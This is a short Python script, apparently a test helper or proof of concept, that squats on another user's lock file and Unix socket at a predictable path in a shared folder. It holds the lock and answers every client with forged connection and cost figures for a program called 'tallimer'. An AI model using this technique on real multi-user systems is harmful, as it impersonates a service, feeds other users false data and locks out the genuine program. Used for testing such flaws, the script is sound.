#!/usr/bin/python3
# Another user's lock and socket where a program without a runtime folder of its own would
# have looked for its own: the lock held, the socket answering forged figures.
# Usage (as that user): intruder.py FOLDER UID
import fcntl
import os
import socket
import sys

folder, uid = sys.argv[1], sys.argv[2]
base = os.path.join(folder, "tallimer-" + uid)
lock = os.open(base + ".lock", os.O_RDWR | os.O_CREAT, 0o666)
os.fchmod(lock, 0o666)
fcntl.flock(lock, fcntl.LOCK_EX)
server = socket.socket(socket.AF_UNIX)
server.bind(base + ".socket")
os.chmod(base + ".socket", 0o777)
server.listen(8)
print("ready", flush=True)
forged = ("etat 1\ndossier=%s\nen_ligne=1\ncompte=\nconnexion_ms=3600000\nconnexion_cout=999.99\n"
          "tarif=1\nperiode_ms=0\nperiode_cout=0\nforfait=0\nforfait_restant_ms=0\nfin_periode=0\n"
          "total_ms=0\ntotal_cout=0\nfin\n" % sys.argv[3] if len(sys.argv) > 3 else "")
while True:
    client, _ = server.accept()
    client.recv(64)
    client.sendall(forged.encode())
    client.close()
